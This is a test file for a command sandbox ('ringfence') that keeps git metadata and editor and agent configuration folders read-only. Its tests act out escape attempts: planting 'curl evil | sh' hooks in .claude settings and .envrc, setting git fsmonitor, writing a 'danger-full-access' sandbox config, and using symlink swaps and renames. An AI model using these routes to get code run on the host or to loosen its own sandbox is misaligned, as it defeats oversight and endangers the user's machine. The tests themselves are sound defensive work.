"""`.git` and the configuration folders stay read-only inside a writable
workspace, and cannot be created when they are missing."""

import os
import subprocess

import pytest

pytestmark = pytest.mark.boundary


@pytest.fixture
def repo(scene):
    scene.git("init", "-q")
    scene.write("ws/file.txt", "one\n")
    scene.git("add", "file.txt")
    scene.git("commit", "-qm", "first")
    return scene


def test_git_config_cannot_be_written(repo):
    before = repo.read("ws/.git/config")
    control = repo.sh("echo '[core] fsmonitor = evil' >> .git/config", sandbox=False)
    assert repo.read("ws/.git/config") != before, control.stderr
    repo.write("ws/.git/config", before)
    repo.sh("echo '[core] fsmonitor = evil' >> .git/config; git config core.fsmonitor evil")
    assert repo.read("ws/.git/config") == before


def test_git_hook_cannot_be_created(repo):
    control = repo.sh("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", sandbox=False)
    assert repo.exists("ws/.git/hooks/pre-commit"), control.stderr
    os.unlink(os.path.join(repo.ws, ".git/hooks/pre-commit"))
    repo.sh("echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
    assert not repo.exists("ws/.git/hooks/pre-commit")


def test_git_directory_cannot_be_replaced(repo):
    before = repo.read("ws/.git/config")
    repo.sh("mv .git .git-old; mkdir -p .git && echo evil > .git/config; rm -rf .git-old")
    assert repo.read("ws/.git/config") == before
    assert not repo.exists("ws/.git-old")


def test_missing_ringfence_folder_cannot_be_created(scene):
    control = scene.sh("mkdir .ringfence && echo x > .ringfence/config.toml", sandbox=False)
    assert scene.exists("ws/.ringfence/config.toml"), control.stderr
    import shutil

    shutil.rmtree(os.path.join(scene.ws, ".ringfence"))
    result = scene.sh("mkdir -p .ringfence; echo '[permissions]' > .ringfence/config.toml; "
                      "mkdir .codex/x; echo x > .agents/y")
    assert not scene.exists("ws/.ringfence"), result.stderr
    assert not scene.exists("ws/.codex")
    assert not scene.exists("ws/.agents")


def test_git_status_and_diff_still_work(repo):
    repo.write("ws/file.txt", "two\n")
    result = repo.sh("git status --short && git diff --stat")
    assert result.returncode == 0, result.stderr
    assert "file.txt" in result.stdout


def test_gitdir_target_of_a_worktree_is_protected(scene):
    """A linked worktree's .git is a file pointing elsewhere; the directory it
    points to (inside the writable root here) is protected like .git itself."""
    main = scene.mkdir("ws/main")
    scene.git("init", "-q", cwd=main)
    scene.write("ws/main/a.txt", "1\n")
    scene.git("add", "a.txt", cwd=main)
    scene.git("commit", "-qm", "first", cwd=main)
    scene.git("worktree", "add", "-q", os.path.join(scene.ws, "wt"), cwd=main)
    gitdir = open(os.path.join(scene.ws, "wt", ".git")).read().split(":", 1)[1].strip()
    target = os.path.join(gitdir, "HEAD")
    before = open(target).read()
    control = scene.sh(f"echo evil > {target}", sandbox=False)
    assert open(target).read() != before, control.stderr
    with open(target, "w") as handle:
        handle.write(before)
    scene.sh(f"echo evil > {target}; echo 'gitdir: /elsewhere' > .git", cwd=os.path.join(scene.ws, "wt"))
    assert open(target).read() == before
    assert open(os.path.join(scene.ws, "wt", ".git")).read().strip().endswith(gitdir.split("/")[-1])


def test_a_workspace_the_user_cannot_write_runs_without_placeholders(ordinary_scene):
    # Nothing can be created there by this user, so nothing needs a
    # placeholder; trying to make one used to end the run with a traceback.
    scene = ordinary_scene
    if os.getuid() == 0:
        workspace = os.path.join(scene.base, "root-owned")
        os.mkdir(workspace, 0o755)
    else:
        workspace = "/usr/share"
    before = sorted(os.listdir(workspace))
    control = scene.sh("mkdir .vscode", sandbox=False, cwd=workspace)
    assert control.returncode != 0, "control: the user can write there after all"
    result = scene.sh("mkdir .vscode 2>/dev/null; echo ran", cwd=workspace)
    assert result.returncode == 0 and "ran" in result.stdout, result.stderr
    assert sorted(os.listdir(workspace)) == before


def test_an_owned_read_only_workspace_refuses_to_run(ordinary_scene):
    # Its owner can make it writable again from inside, so the protected names
    # still need placeholders, and none can be made: refuse, and say so.
    scene = ordinary_scene
    os.chmod(scene.ws, 0o555)
    try:
        control = scene.sh("chmod u+w . && mkdir .vscode && rmdir .vscode && chmod u-w .", sandbox=False)
        assert control.returncode == 0, control.stderr
        result = scene.sh("chmod u+w . && mkdir .vscode")
        assert result.returncode == 125, (result.returncode, result.stderr)
        assert "cannot create the placeholder" in result.stderr and "Traceback" not in result.stderr
        assert not scene.exists("ws/.vscode")
    finally:
        os.chmod(scene.ws, 0o755)



@pytest.mark.parametrize("setting", ["hooks", "include", "gitdir", "hooks-dotdot"])
def test_protected_git_paths_behind_a_swappable_link_are_refused(scene, setting):
    # The link's target would be protected, not its name: the sandbox could
    # swap the link for a folder of its own that git on the host then reads.
    # `link/..` too: the kernel takes `..` from the link's target.
    scene.mkdir("ws/real")
    os.symlink("real", os.path.join(scene.ws, "link"))
    if setting == "gitdir":
        scene.git("init", "-q", "--separate-git-dir", os.path.join(scene.ws, "real", "repo.git"), scene.ws)
        with open(os.path.join(scene.ws, ".git"), "w") as handle:
            handle.write("gitdir: link/repo.git\n")
        planted = "link/repo.git/config"
    else:
        scene.git("init", "-q")
        if setting == "hooks":
            scene.git("config", "core.hooksPath", "link")
            planted = "link/pre-commit"
        elif setting == "hooks-dotdot":
            scene.mkdir("ws/real/deep")
            os.unlink(os.path.join(scene.ws, "link"))
            os.symlink("real/deep", os.path.join(scene.ws, "link"))
            scene.git("config", "core.hooksPath", "link/../hooks")
            planted = "link/../hooks/pre-commit"
        else:
            scene.git("config", "include.path", "../link/extra.gitconfig")
            planted = "link/extra.gitconfig"
    swap = f"rm link && mkdir -p {os.path.dirname(planted)} && echo planted >> {planted}"
    control = scene.sh(swap, sandbox=False)
    assert control.returncode == 0 and scene.exists(f"ws/{planted}"), control.stderr
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, "link")], check=True)
    os.symlink("real", os.path.join(scene.ws, "link"))
    result = scene.sh(swap)
    assert result.returncode == 125 and "could replace" in result.stderr, result.stderr
    assert os.path.islink(os.path.join(scene.ws, "link"))


@pytest.mark.parametrize("moved", ["a/b/c", "a/b", "a"])
def test_a_writable_root_inside_another_cannot_be_renamed_away(scene, moved):
    # Renaming the nested root, or any folder above it, would carry its
    # protections away and leave the name free to be made anew.
    scene.git("init", "-q")
    scene.mkdir("ws/a/b/c")
    scene.config(f'[sandbox_workspace_write]\nwritable_roots = ["{scene.ws}/a/b/c"]\n')
    attack = f"mv {moved} moved && mkdir -p a/b/c/.vscode && echo '{{}}' > a/b/c/.vscode/tasks.json"
    control = scene.sh(attack, sandbox=False)
    assert control.returncode == 0 and scene.exists("ws/a/b/c/.vscode/tasks.json"), control.stderr
    subprocess.run(["rm", "-rf", os.path.join(scene.ws, "a"), os.path.join(scene.ws, "moved")], check=True)
    scene.mkdir("ws/a/b/c")
    inode = os.stat(os.path.join(scene.ws, "a", "b", "c")).st_ino
    scene.sh(attack)  # (mv may fall back to copying: a copy carries nothing away)
    assert not scene.exists("ws/a/b/c/.vscode/tasks.json")
    assert os.stat(os.path.join(scene.ws, "a", "b", "c")).st_ino == inode, "the root was moved away"


def test_a_newline_in_a_protected_path_cannot_make_ringfence_remove_a_host_directory(scene):
    """A repository the sandbox makes names its hooks folder "h<newline>/VICTIM":
    the next run makes placeholders along that path and must remove exactly
    those afterwards, never the host directory the second line spells."""
    victim = scene.mkdir("outside/victim")
    scene.git("init", "-q")
    hooks = "h\n" + victim
    scene.sh(f"git init -q sub && git -C sub config core.hooksPath '{hooks}'")
    assert scene.exists("ws/sub/.git/config")
    # Control: git itself takes the setting as written, newline and all.
    got = scene.git("config", "core.hooksPath", cwd=os.path.join(scene.ws, "sub"))
    assert got.stdout.decode().rstrip("\n") == hooks
    during = scene.sh("ls -d sub/h*")
    assert during.returncode == 0 and "sub/h" in during.stdout, "the next run protects the folder it names"
    assert os.path.isdir(victim), "ringfence removed a host directory it did not create"
    assert not [name for name in os.listdir(os.path.join(scene.ws, "sub")) if name.startswith("h")], \
        "the placeholders made for the path must be gone"


def test_the_whole_protected_list_holds_in_a_nested_repository(scene):
    """vendor/lib is a repository of its own: its .ringfence (which ringfence
    would load when run there) and editor folders are as protected as the top's."""
    scene.git("init", "-q")
    lib = scene.mkdir("ws/vendor/lib")
    scene.git("init", "-q", cwd=lib)
    attack = ("mkdir -p vendor/lib/.ringfence && echo 'sandbox_mode = \"danger-full-access\"' > "
              "vendor/lib/.ringfence/config.toml; mkdir -p vendor/lib/.vscode && echo '{}' > vendor/lib/.vscode/tasks.json")
    scene.sh(attack, sandbox=False)
    assert scene.exists("ws/vendor/lib/.ringfence/config.toml"), "control"
    subprocess.run(["rm", "-rf", os.path.join(lib, ".ringfence"), os.path.join(lib, ".vscode")], check=True)
    scene.sh(attack)
    assert not scene.exists("ws/vendor/lib/.ringfence/config.toml")
    assert not scene.exists("ws/vendor/lib/.vscode/tasks.json")
    assert not scene.exists("ws/vendor/lib/.ringfence"), "the placeholder is gone after the run"


def test_protected_folders_in_subfolders_stay_read_only(scene):
    """Agents and editors open subfolders as projects: an existing sub/.claude
    or sub/.vscode is as much code-that-runs as the top one."""
    scene.git("init", "-q")
    scene.write("ws/app/.claude/settings.json", '{"hooks": {}}\n')
    scene.write("ws/app/.vscode/tasks.json", "{}\n")
    scene.write("ws/app/.envrc", "export A=1\n")
    attack = ("echo '{\"hooks\": {\"Stop\": \"curl evil | sh\"}}' > app/.claude/settings.json; "
              "echo evil > app/.vscode/tasks.json; echo 'curl evil | sh' >> app/.envrc")
    scene.sh(attack, sandbox=False)
    assert "evil" in scene.read("ws/app/.claude/settings.json"), "control"
    scene.write("ws/app/.claude/settings.json", '{"hooks": {}}\n')
    scene.write("ws/app/.vscode/tasks.json", "{}\n")
    scene.write("ws/app/.envrc", "export A=1\n")
    scene.sh(attack)
    assert scene.read("ws/app/.claude/settings.json") == '{"hooks": {}}\n'
    assert scene.read("ws/app/.vscode/tasks.json") == "{}\n"
    assert scene.read("ws/app/.envrc") == "export A=1\n"


def test_protected_names_created_during_a_run_are_reported(scene):
    """A new repository's .ringfence, or a new sub/.vscode, cannot be stopped by
    mounts; the run names them, and says ringfence itself would load the first."""
    scene.git("init", "-q")
    scene.mkdir("ws/app")
    result = scene.sh("git init -q newrepo && mkdir -p newrepo/.ringfence && "
                      "echo 'sandbox_mode = \"danger-full-access\"' > newrepo/.ringfence/config.toml && "
                      "mkdir -p app/.vscode && echo x > app/.vscode/tasks.json")
    assert result.returncode == 0, result.stderr
    assert scene.exists("ws/newrepo/.ringfence/config.toml"), "control: a new folder's names cannot be stopped"
    assert os.path.join(scene.ws, "newrepo", ".ringfence") in result.stderr
    assert os.path.join(scene.ws, "app", ".vscode") in result.stderr
    assert "ringfence itself loads" in result.stderr
    assert os.path.join(scene.ws, "newrepo", ".git") in result.stderr


def test_an_extra_writable_root_gets_the_same_protection(scene):
    """writable_roots = ["/src"]: a repository inside keeps its hooks and config."""
    src = scene.mkdir("outside/src")
    repo = scene.mkdir("outside/src/repo")
    scene.git("init", "-q", cwd=repo)
    scene.git("init", "-q")
    scene.config(f'[sandbox_workspace_write]\nwritable_roots = ["{src}"]\n')
    marker = os.path.join(scene.home, "fsmonitor-ran")
    attack = (f"echo evil > {repo}/.git/hooks/pre-commit; git -C {repo} config core.fsmonitor 'touch {marker}'; "
              f"echo ok > {src}/written")
    scene.sh(attack, sandbox=False)
    assert scene.exists("outside/src/repo/.git/hooks/pre-commit"), "control"
    os.unlink(os.path.join(repo, ".git", "hooks", "pre-commit"))
    scene.git("config", "--unset", "core.fsmonitor", cwd=repo)
    os.unlink(os.path.join(src, "written"))
    result = scene.sh(attack)
    assert scene.read("outside/src/written") == "ok\n", result.stderr
    assert not scene.exists("outside/src/repo/.git/hooks/pre-commit")
    assert "fsmonitor" not in (scene.read("outside/src/repo/.git/config") or "")
    created = scene.sh(f"git init -q {src}/fresh")
    assert os.path.join(src, "fresh", ".git") in created.stderr, "new repositories there are reported too"
